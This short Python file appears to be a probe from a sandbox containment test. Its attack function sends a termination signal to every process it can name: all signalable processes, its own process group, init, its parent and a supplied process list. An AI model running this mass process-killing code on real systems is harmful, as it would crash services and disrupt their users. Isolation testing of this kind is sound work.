# End: held. Signals every process that it can name.

import os
import signal


def attack(facts):
    through = []
    for pid in {-1, 0, 1, 2, 3, os.getppid(), -os.getppid(), *facts["processes"]} - {os.getpid()}:
        try:
            os.kill(pid, signal.SIGTERM)
            through.append(str(pid))
        except OSError:
            pass
    return through
